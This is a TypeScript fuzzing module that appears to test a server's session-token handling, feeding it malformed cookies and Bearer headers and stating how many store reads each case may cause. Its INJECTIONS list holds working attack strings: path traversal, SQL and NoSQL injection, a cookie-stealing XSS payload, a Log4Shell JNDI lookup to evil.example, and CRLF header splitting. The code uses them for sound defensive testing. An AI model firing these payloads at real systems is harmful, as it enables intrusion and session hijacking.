// Deterministic generator of hostile session-token presentations (cookie and/or Authorization header).
import { validateHeaderValue } from 'node:http';
import { B64URL, TOKEN_SHAPE, prng } from './fault-kit.js';

/** How many store reads a case may cause. */
export type ReadExpectation = 'none' | 'one' | 'at-most-one';

export interface HostileCase {
  /** Family of the generated value (empty, huge, wrong-alphabet, …). */
  family: string;
  /** Where it is presented (cookie, bearer, both-disagree, many-cookies, …). */
  placement: string;
  /** Request headers as the server sees them (strings; unicode already UTF-8 encoded when sent over HTTP). */
  headers: Record<string, string | string[]>;
  /** The same headers before UTF-8 encoding (what a framework that decodes UTF-8 would hand over). */
  rawHeaders: Record<string, string | string[]>;
  expectReads: ReadExpectation;
  /** True when Node's HTTP client accepts every header value (otherwise the case only goes through SubjectFactory). */
  sendable: boolean;
  /** Sent values long enough that finding them in a response means the input was echoed. */
  needles: string[];
}

const BAD = '+/=.!~*\'"()[]{}<>@#$%^&|\\?,:` ';
const CONTROL = Array.from({ length: 32 }, (_, i) => String.fromCharCode(i)).join('') + '\x7f';
const C1 = Array.from({ length: 32 }, (_, i) => String.fromCharCode(0x80 + i)).join('');
const UNICODE_POOLS = [
  'éèàçñüöäß©®°±µ¶·¿ÆØÞðþ', // Latin-1 supplement
  'АВЕКМНОРСТХаеорсух', // Cyrillic look-alikes of base64url letters
  'ΑΒΕΖΗΙΚΜΝΟΡΤΥΧ', // Greek look-alikes
  'ＡＢＣａｂｃ０１２－＿', // fullwidth forms
  '\u200b\u200c\u200d\u2060\ufeff', // zero-width characters
  '\u202e\u202d\u2066\u2067', // bidi overrides
  '\u0301\u0308\u0327', // combining marks
  '中文字符会话令牌日本語한국어',
  '😀🔑🍪💥👾', // astral (surrogate pairs)
  '\ud800\udfff', // lone surrogates (halves, picked one at a time)
  '\ufffd\uffff\ufffe',
];
const INJECTIONS = [
  '../../etc/passwd',
  '%2e%2e%2f%2e%2e%2f',
  "' OR '1'='1' --",
  '<script>alert(document.cookie)</script>',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '{"$ne":null}',
  '[object Object]',
  'null',
  'undefined',
  '__proto__',
  'constructor',
  'Bearer Bearer Bearer',
  'sid=sid=sid=',
  'deleted; Expires=Thu, 01 Jan 1970 00:00:00 GMT',
  'x; Path=/; Domain=evil.example',
  '\r\nSet-Cookie: sid=pwned',
  '\r\n\r\nHTTP/1.1 200 OK',
  'a\nb',
  'yosai:sess:',
  '*',
  'KEYS *',
];

function utf8AsLatin1(value: string): string {
  return Buffer.from(value, 'utf8').toString('latin1');
}

function sendableValue(name: string, value: string | string[]): boolean {
  try {
    for (const v of Array.isArray(value) ? value : [value]) validateHeaderValue(name, v);
    return true;
  } catch {
    return false;
  }
}

/**
 * Candidate token values a lenient reader could see in the presentation: each cookie value (trimmed,
 * unquoted) and each Authorization value minus a Bearer prefix. If none is well-formed, no store read is
 * allowed. (Deliberately looser than the real transport, so it never forbids a read that may be legal.)
 */
function anyWellFormedCandidate(headers: Record<string, string | string[]>): boolean {
  const candidates: string[] = [];
  const cookie = headers.cookie;
  for (const line of cookie === undefined ? [] : Array.isArray(cookie) ? cookie : [cookie]) {
    for (const part of line.split(';')) {
      const eq = part.indexOf('=');
      let v = (eq === -1 ? part : part.slice(eq + 1)).trim();
      if (v.length >= 2 && v.startsWith('"') && v.endsWith('"')) v = v.slice(1, -1);
      candidates.push(v);
    }
  }
  const auth = headers.authorization;
  for (const a of auth === undefined ? [] : Array.isArray(auth) ? auth : [auth]) {
    candidates.push(
      a.trim(),
      a
        .trim()
        .replace(/^bearer\s+/i, '')
        .trim(),
    );
  }
  return candidates.some((c) => TOKEN_SHAPE.test(c));
}

/** The hostile values, by family. `live` is a real, authenticated token used only in mixed placements. */
export function hostileValues(
  seed: number,
  counts = { perFamily: 300 },
): { family: string; value: string }[] {
  const r = prng(seed);
  const out: { family: string; value: string }[] = [];
  const add = (family: string, value: string) => out.push({ family, value });
  const n = counts.perFamily;

  add('empty', '');
  add('empty', ' ');
  add('empty', '""');
  add('empty', '\t');
  // Huge: 64 KB (larger than Node's 16 KB header limit, so over HTTP they meet a 431 from Node itself).
  const K64 = 64 * 1024;
  add('huge', 'A'.repeat(K64));
  add('huge', r.from(B64URL, K64));
  add('huge', r.from(B64URL, 43) + 'A'.repeat(K64 - 43));
  add('huge', ';'.repeat(K64));
  add('huge', '='.repeat(K64));
  add('huge', '%41'.repeat(Math.floor(K64 / 3)));
  add('huge', '😀'.repeat(K64 / 4));
  add('huge', 'sid='.repeat(K64 / 4));
  // Just under the header limit, so they do reach the app over HTTP.
  for (const len of [1_000, 4_096, 8_000, 12_000]) add('huge', r.from(B64URL + BAD, len));

  for (let i = 0; i < n; i++) {
    // Wrong alphabet: random length, at least one character outside base64url.
    const len = r.int(1, 120);
    const chars = r.from(B64URL + BAD, len).split('');
    chars[r.int(0, len - 1)] = r.pick(BAD.split('').filter((c) => c !== ' '));
    add('wrong-alphabet', chars.join(''));
  }
  for (let i = 0; i < n; i++) {
    // Right length (43), wrong alphabet: 1..5 characters replaced by standard-base64 or other symbols.
    const chars = r.from(B64URL, 43).split('');
    const k = r.int(1, 5);
    for (let j = 0; j < k; j++) chars[r.int(0, 42)] = r.pick('+/=.!~*%$#@'.split(''));
    add('right-length-wrong-alphabet', chars.join(''));
  }
  for (let i = 0; i < n; i++) {
    // Right alphabet, wrong length (0..42 and 44..100; padded base64 too).
    let len = r.int(1, 100);
    if (len === 43) len = 44;
    add('wrong-length', i % 10 === 0 ? r.from(B64URL, 43) + '=' : r.from(B64URL, len));
  }
  for (let i = 0; i < n; i++) add('valid-shape-unknown', r.from(B64URL, 43));
  for (let i = 0; i < n; i++) {
    // Unicode: a token with look-alike or invisible characters mixed in, or pure non-ASCII text.
    const pool = r.pick(UNICODE_POOLS);
    const glyphs = Array.from(pool);
    const mode = i % 3;
    if (mode === 0) {
      const chars = r.from(B64URL, 43).split('');
      chars[r.int(0, 42)] = r.pick(glyphs);
      add('unicode', chars.join(''));
    } else if (mode === 1) {
      add('unicode', r.from(B64URL, 43) + r.pick(glyphs));
    } else {
      let s = '';
      for (let j = r.int(1, 43); j > 0; j--) s += r.pick(glyphs);
      add('unicode', s);
    }
  }
  for (let i = 0; i < n; i++) {
    // Control characters (C0, DEL, C1), embedded in an otherwise valid token or alone.
    const chars = r.from(B64URL, 43).split('');
    const ctl = i % 4 === 3 ? C1 : CONTROL;
    const k = r.int(1, 3);
    for (let j = 0; j < k; j++)
      chars.splice(r.int(0, chars.length), i % 2 === 0 ? 1 : 0, r.pick(ctl.split('')));
    add('control', chars.join(''));
  }
  for (const s of INJECTIONS) add('injection', s);
  for (let i = 0; i < n / 3; i++) add('injection', r.pick(INJECTIONS) + r.from(B64URL, r.int(0, 43)));
  return out;
}

/**
 * Cases: each value presented in several ways. `live` is a live authenticated token; it appears only
 * next to a different value (disagreement or ambiguity), where it must NOT be honoured.
 */
export function hostileCases(seed: number, live: string, perFamily = 400): HostileCase[] {
  const r = prng(seed ^ 0x5eed);
  const cases: HostileCase[] = [];
  const values = hostileValues(seed, { perFamily });
  /** `readable`: the transport may use this value (single source or agreeing sources, Bearer scheme). */
  const make = (
    family: string,
    placement: string,
    raw: Record<string, string | string[]>,
    readable: boolean,
    value: string,
  ) => {
    const needles = value.length >= 8 ? [utf8AsLatin1(value)] : [];
    // What goes on the wire: non-Latin-1 text as its UTF-8 bytes (what a raw client would send).
    const headers: Record<string, string | string[]> = {};
    for (const [k, v] of Object.entries(raw))
      headers[k] = Array.isArray(v) ? v.map(utf8AsLatin1) : utf8AsLatin1(v);
    const sendable = Object.entries(headers).every(([k, v]) => sendableValue(k, v));
    let expectReads: ReadExpectation;
    if (!readable) expectReads = 'none';
    else if (family === 'valid-shape-unknown') expectReads = 'one';
    else expectReads = anyWellFormedCandidate(headers) ? 'at-most-one' : 'none';
    cases.push({ family, placement, headers, rawHeaders: raw, expectReads, sendable, needles });
  };
  values.forEach(({ family, value }, i) => {
    make(family, 'cookie', { cookie: `sid=${value}` }, true, value);
    make(family, 'bearer', { authorization: `Bearer ${value}` }, true, value);
    make(family, 'cookie-among-others', { cookie: `theme=dark; sid=${value}; lang=en` }, true, value);
    switch (i % 6) {
      case 0:
        make(
          family,
          'cookie-and-bearer-disagree(live cookie)',
          { cookie: `sid=${live}`, authorization: `Bearer ${value}` },
          false,
          value,
        );
        break;
      case 1:
        make(
          family,
          'cookie-and-bearer-disagree(live bearer)',
          { cookie: `sid=${value}`, authorization: `Bearer ${live}` },
          false,
          value,
        );
        break;
      case 2: {
        const copies = r.int(2, 60);
        const list = Array.from({ length: copies }, () => `sid=${value}`);
        list.splice(r.int(0, copies), 0, `sid=${live}`);
        make(
          family,
          `many-session-cookies(${copies + 1}, one live)`,
          { cookie: list.join('; ') },
          false,
          value,
        );
        break;
      }
      case 3: {
        const copies = r.int(2, 60);
        make(
          family,
          `many-session-cookies(${copies}, identical)`,
          { cookie: Array.from({ length: copies }, () => `sid=${value}`).join('; ') },
          true,
          value,
        );
        break;
      }
      case 4:
        make(family, 'authorization-without-bearer', { authorization: value }, false, value);
        break;
      case 5:
        make(
          family,
          'cookie-and-bearer-agree',
          { cookie: `sid=${value}`, authorization: `Bearer ${value}` },
          true,
          value,
        );
        break;
    }
  });
  return cases;
}
